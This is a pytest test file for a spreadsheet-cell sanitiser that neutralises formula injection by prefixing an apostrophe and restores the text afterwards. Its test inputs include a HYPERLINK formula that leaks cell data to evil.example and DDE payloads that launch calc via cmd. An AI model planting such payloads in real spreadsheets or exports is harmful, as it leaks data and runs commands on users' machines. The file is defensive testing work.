"""Formula injection: text that a spreadsheet would run is written as text, and read back as it was."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aftersales.core.cells import neutralise, restore


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "'=already quoted",
    ],
)
def test_it_writes_formula_leading_text_with_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+1.5", "-0.25", "1e3", -5, 2.5, None, "未设专门部门", "a=b", " =x", "'plain"])
def test_it_leaves_numbers_and_ordinary_text_alone(value):
    assert neutralise(value) == value


def test_it_restores_only_the_apostrophe_it_added():
    assert restore("'=1+1") == "=1+1"
    assert restore("''=1+1") == "'=1+1"
    assert restore("'-5") == "'-5"  # a person's apostrophe before a number is theirs
    assert restore("'plain") == "'plain"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r0123456789.eE a甲")))
def test_a_round_trip_gives_the_text_back(text):
    assert restore(neutralise(text)) == text
    written = neutralise(text)
    if written[:1] in {"=", "+", "-", "@", "\t", "\r"}:
        float(written)  # only a plain number may start so
